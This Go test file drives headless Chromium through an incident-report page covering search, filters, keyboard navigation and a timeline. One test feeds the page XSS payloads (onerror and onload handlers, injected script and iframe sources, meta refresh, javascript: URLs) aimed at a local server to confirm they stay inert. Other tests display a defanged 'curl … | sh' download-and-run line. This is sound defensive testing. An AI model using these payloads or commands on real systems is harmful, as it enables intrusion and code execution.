package report

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/input"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/clawbook/openclaw-ir/analyze"
	"github.com/clawbook/openclaw-ir/internal/inerttest"
)

// A tab is a page in a real browser, with everything that it asked for and complained of.
type tab struct {
	t   *testing.T
	ctx context.Context
	mu  sync.Mutex
	// asked are the addresses that were requested, said what the console and the browser's log hold.
	asked, said []string
}

// browse opens the page of a story in headless Chromium, from a file. The test is skipped where there is none.
func browse(t *testing.T, s *Story, scripts bool) *tab {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("no chromium")
	}
	file := filepath.Join(t.TempDir(), "page.html")
	f, err := os.Create(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := WritePage(f, s); err != nil {
		t.Fatal(err)
	}
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path))
	if os.Getuid() == 0 {
		options = append(options, chromedp.NoSandbox)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewExecAllocator(ctx, options...)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	b := &tab{t: t, ctx: ctx}
	b.must(chromedp.Listen(ctx, b.hear))
	// A page that is still scrolling is clicked in the wrong place.
	still := []*emulation.MediaFeature{{Name: "prefers-reduced-motion", Value: "reduce"}}
	_, err = chromedp.Call(ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: still})
	b.must(err)
	if !scripts {
		_, err := chromedp.Call(ctx, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
		b.must(err)
	}
	b.must(chromedp.Do(ctx, chromedp.Navigate("file://"+file)))
	return b
}

func (b *tab) must(err error) {
	b.t.Helper()
	if err != nil {
		b.t.Fatal(err)
	}
}

// part runs a part of a test under a name.
func (b *tab) part(name string, do func()) {
	whole := b.t
	defer func() { b.t = whole }()
	whole.Run(name, func(t *testing.T) {
		b.t = t
		do()
	})
}

func (b *tab) hear(ev any) {
	b.mu.Lock()
	defer b.mu.Unlock()
	switch e := ev.(type) {
	case *network.EventRequestWillBeSent:
		b.asked = append(b.asked, e.Request.URL)
	case *cdplog.EventEntryAdded:
		b.said = append(b.said, e.Entry.Text)
	case *runtime.EventConsoleAPICalled:
		b.said = append(b.said, "the console was written to")
	case *runtime.EventExceptionThrown:
		b.said = append(b.said, e.ExceptionDetails.Text)
	}
}

// quiet checks that the page asked for nothing but itself and that nothing went wrong.
func (b *tab) quiet() {
	b.t.Helper()
	b.mu.Lock()
	defer b.mu.Unlock()
	if len(b.asked) != 1 || !strings.HasPrefix(b.asked[0], "file://") {
		b.t.Errorf("the page asked for %q", b.asked)
	}
	if len(b.said) > 0 {
		b.t.Errorf("the browser says %q", b.said)
	}
}

// see evaluates an expression in the page.
func see[T any](b *tab, expression string) T {
	b.t.Helper()
	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[T](expression))
	if err != nil {
		b.t.Fatalf("%s: %v", expression, err)
	}
	return v
}

// until waits for an expression to become true.
func (b *tab) until(expression string) {
	b.t.Helper()
	for end := time.Now().Add(time.Minute); !see[bool](b, "Boolean("+expression+")"); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(end) {
			b.t.Fatalf("it never came to %s; there is %q", expression, see[string](b, `[document.getElementById("matches").textContent, document.activeElement.id, document.getElementById("q").value].join(" · ")`))
		}
	}
}

// press presses keys. A key of a letter types it only if the page lets it, which chromedp.KeyEvent does not ask.
func (b *tab) press(keys string) {
	b.t.Helper()
	for _, key := range keys {
		if !unicode.IsPrint(key) || unicode.Is(unicode.Mn, key) { // kb names keys without a letter so
			b.must(chromedp.Do(b.ctx, chromedp.KeyEvent(string(key))))
			continue
		}
		for _, how := range []input.DispatchKeyEventType{input.DispatchKeyEventTypeKeyDown, input.DispatchKeyEventTypeKeyUp} {
			p := input.DispatchKeyEventParams{Type: how, Key: string(key)}
			if how == input.DispatchKeyEventTypeKeyDown {
				p.Text = string(key)
			}
			_, err := chromedp.Call(b.ctx, input.DispatchKeyEvent, p)
			b.must(err)
		}
	}
}

// click clicks with the mouse at the middle of an element, dx from it.
func (b *tab) click(expression string, dx float64) {
	b.t.Helper()
	see[bool](b, `((`+expression+`).scrollIntoView({block: "center", behavior: "instant"}), true)`)
	at := see[[]float64](b, `(({x, y, width, height}) => [x + width / 2, y + height / 2])((`+expression+`).getBoundingClientRect())`)
	b.must(chromedp.Do(b.ctx, chromedp.MouseClickXY(at[0]+dx, at[1])))
}

const (
	matches = `document.getElementById("matches").textContent`
	detail  = `document.getElementById("detail")`
	rowsNow = `document.querySelectorAll("#rows .row")`
)

// TestPageInBrowser looks through a played incident as a person does, with the keyboard and the mouse.
func TestPageInBrowser(t *testing.T) {
	b := browse(t, played(t, "session-theft"), true)
	all := see[string](b, matches)
	b.part("search", func() {
		b.press("/")
		b.until(`document.activeElement.id === "q"`)
		b.press("CURL*wa-restore.example|zip -9")
		b.until(matches + ` !== "` + all + `"`)
		b.until(rowsNow + `.length > 0 && [...` + rowsNow + `].every((row) => row.textContent.includes("wa-restore"))`)
		b.until(`document.querySelector("#rows mark").textContent === "curl"`)
	})
	b.part("filter", func() {
		b.click(`document.getElementById("reset")`, 0)
		b.until(matches + ` === "` + all + `"`)
		b.click(`[...document.querySelectorAll("#by-kind button")].find((node) => node.textContent.startsWith("exec"))`, 0)
		b.until(`document.querySelector("#by-kind [aria-pressed=true]") && [...` + rowsNow + `].every((row) => row.querySelector(".kind").textContent === "exec")`)
		see[bool](b, `(() => { const s = document.getElementById("by-level"); s.value = 5; s.dispatchEvent(new Event("change")); return true; })()`)
		b.until(`[...` + rowsNow + `].every((row) => row.textContent.includes("critical"))`)
	})
	b.part("keyboard", func() {
		b.click(`document.getElementById("reset")`, 0)
		see[bool](b, `document.activeElement.blur() ?? true`)
		b.press("jjk")
		b.until(`document.activeElement.id === "list" && document.querySelector("#rows .now").getAttribute("aria-rowindex") === "2"`)
		b.press(kb.End + kb.Enter)
		b.until(`!` + detail + `.hidden && document.getElementById("list").getAttribute("aria-activedescendant") === document.querySelector("#rows .now").id`)
		b.press(kb.Escape)
		b.until(detail + `.hidden`)
	})
	b.part("chain", func() {
		b.click(`document.querySelector(".cause:not([open]) > summary")`, 0)
		b.until(`[...document.querySelectorAll(".cause[open] .chain")].length > 3`)
		b.click(`document.querySelector(".cause[open] .act .jump")`, 0)
		b.until(`!` + detail + `.hidden && ` + detail + `.querySelector(".level.l-critical")`)
		b.click(detail+`.querySelector(".about a")`, 0)
		b.until(`/^#f\d+$/.test(location.hash) && document.querySelector(location.hash).matches(".finding") && ` + detail + `.hidden`)
	})
	b.part("table", func() {
		b.click(`document.querySelector("#density summary")`, 0)
		b.until(`document.querySelectorAll("#density-table tbody tr").length > 3`)
	})
	b.part("time", func() {
		b.press(kb.Escape)
		b.click(`document.getElementById("reset")`, 0)
		b.click(`document.querySelector("#plot svg")`, 230)
		b.until(`document.getElementById("from").value !== "" && ` + matches + ` !== "` + all + `"`)
		see[bool](b, `document.getElementById("plot").focus() ?? true`)
		b.press(kb.Escape)
		b.until(matches + ` === "` + all + `"`)
		b.press(kb.End + kb.Enter)
		b.until(matches + ` !== "` + all + `"`)
		see[bool](b, `(() => { const n = document.getElementById("from"); n.value = "yesterday"; n.dispatchEvent(new Event("change")); return true; })()`)
		b.until(`document.getElementById("from").getAttribute("aria-invalid") === "true"`)
	})
	b.quiet()
}

// TestHostilePageInBrowser opens a page whose every text is an attack.
func TestHostilePageInBrowser(t *testing.T) {
	var hits sync.Map
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { hits.Store(r.URL.Path, true) }))
	defer server.Close()
	attacks := append([]string{
		`<img src=` + server.URL + `/img onerror="window.__pwned=1">`, `<svg onload=window.__pwned=1>`, `"><iframe src=` + server.URL + `/frame></iframe>`,
		`</script><script src=` + server.URL + `/script></script>`, `<link rel=stylesheet href=` + server.URL + `/style>`, `<meta http-equiv=refresh content="0;url=` + server.URL + `/meta">`,
		`<form action=` + server.URL + `/form><input autofocus onfocus=window.__pwned=1>`, `javascript:window.__pwned=1`, "__proto__", "constructor",
	}, hostile...)
	var s Story
	n := 0
	inerttest.Fill(&s, "Story", func(string) string { n++; return attacks[n%len(attacks)] })
	for i, text := range attacks {
		e := small().Events[0]
		e.What, e.Agent, e.Session, e.Tool, e.Kind = text, text, text, text, small().Events[i%2].Kind
		s.Events = append(s.Events, e)
	}
	for _, at := range []string{"0001-01-01T00:00:00.000Z", "9999-12-31T23:59:59.999Z", "yesterday", ""} {
		s.Events = append(s.Events, analyze.Record{Time: at, What: at})
	}
	b := browse(t, &s, true)
	for range len(s.Events) {
		b.press("j" + kb.Enter)
	}
	see[bool](b, `(() => { for (const d of document.querySelectorAll("details")) d.open = true; for (const a of document.querySelectorAll("a")) a.click(); return true; })()`)
	b.press(kb.Escape + "/<img")
	b.until(rowsNow + `.length > 0 && document.querySelector("#rows mark").textContent === "<img"`)
	if see[bool](b, `"__pwned" in window || document.querySelector("img, iframe, link, form[action], base, object, embed") !== null || location.protocol !== "file:"`) {
		t.Error("a text of the evidence became part of the page")
	}
	hits.Range(func(path, _ any) bool { t.Errorf("%v was asked for", path); return true })
	b.quiet()
}

// TestEmptyPageInBrowser has nothing to show, and shows it.
func TestEmptyPageInBrowser(t *testing.T) {
	b := browse(t, &Story{}, true)
	b.until(matches + ` === "0 of 0 events"`)
	b.press("j" + kb.Enter + "/x" + kb.Escape)
	b.quiet()
}

// TestPageWithoutScript shows all but the timeline to search.
func TestPageWithoutScript(t *testing.T) {
	b := browse(t, small(), false)
	shot, err := chromedp.Run(b.ctx, chromedp.Evaluate[string](`document.body.innerText`))
	b.must(err)
	for _, want := range []string{"needs script, which does not run here", "Events of the findings", "curl hxxp://198.51.100[.]7/x | sh", "where it began", "Model key"} {
		if !strings.Contains(shot, want) {
			t.Errorf("without script the page does not show %q", want)
		}
	}
	if strings.Contains(shot, "Show everything") {
		t.Error("without script the page offers a filter")
	}
	b.quiet()
}

// TestBigPageInBrowser keeps few rows in the document however many events there are.
func TestBigPageInBrowser(t *testing.T) {
	s := manyEvents(100_000)
	b := browse(t, s, true)
	b.until(matches + ` === "100,002 of 100,002 events"`)
	b.press("/api.example.test*99998")
	b.until(matches + ` === "1 of 100,002 events"`)
	b.click(`document.getElementById("reset")`, 0)
	see[bool](b, `document.getElementById("list").focus() ?? true`)
	b.press(kb.End)
	b.until(`document.querySelector("#rows .now").getAttribute("aria-rowindex") === "100003"`)
	if n := see[int](b, rowsNow+`.length`); n > 60 {
		t.Errorf("%d rows are in the document", n)
	}
	b.quiet()
}
